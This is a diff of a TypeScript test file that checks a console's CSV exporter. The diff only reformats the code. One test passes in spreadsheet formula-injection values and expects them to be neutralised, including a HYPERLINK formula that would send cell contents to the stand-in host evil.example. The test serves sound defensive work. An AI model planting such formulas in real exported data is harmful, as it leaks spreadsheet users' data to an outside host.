@@ -6,7 +6,10 @@ import { describe, expect, test } from 'vitest';
 import { csvSafeRecord } from '../../client/src/components/csvExporter.ts';
 
 const SRC = path.resolve(import.meta.dirname, '../../client/src');
-const files = (dir: string): string[] => fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? files(path.join(dir, e.name)) : e.name.endsWith('.tsx') ? [path.join(dir, e.name)] : []));
+const files = (dir: string): string[] =>
+  fs
+    .readdirSync(dir, { withFileTypes: true })
+    .flatMap((e) => (e.isDirectory() ? files(path.join(dir, e.name)) : e.name.endsWith('.tsx') ? [path.join(dir, e.name)] : []));
 
 describe('CSV exports of the console', () => {
   test('every react-admin <List> says how it exports (csvExporter, its own safe exporter, or none)', () => {
@@ -20,9 +23,13 @@ describe('CSV exports of the console', () => {
     expect(missing).toEqual([]);
   });
 
-  test('a record\'s texts are neutralised, numbers and nested values included', () => {
-    expect(csvSafeRecord([{ name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', deltaMb: -1024, tags: ['@SUM(1,1)', 'ok'], nested: { note: '+1' } }])).toEqual([
-      { name: '\'=HYPERLINK("http://evil.example/?"&A1,"Click")', deltaMb: -1024, tags: ['\'@SUM(1,1)', 'ok'], nested: { note: '\'+1' } },
+  test("a record's texts are neutralised, numbers and nested values included", () => {
+    expect(
+      csvSafeRecord([
+        { name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', deltaMb: -1024, tags: ['@SUM(1,1)', 'ok'], nested: { note: '+1' } },
+      ]),
+    ).toEqual([
+      { name: '\'=HYPERLINK("http://evil.example/?"&A1,"Click")', deltaMb: -1024, tags: ["'@SUM(1,1)", 'ok'], nested: { note: "'+1" } },
     ]);
   });
 });
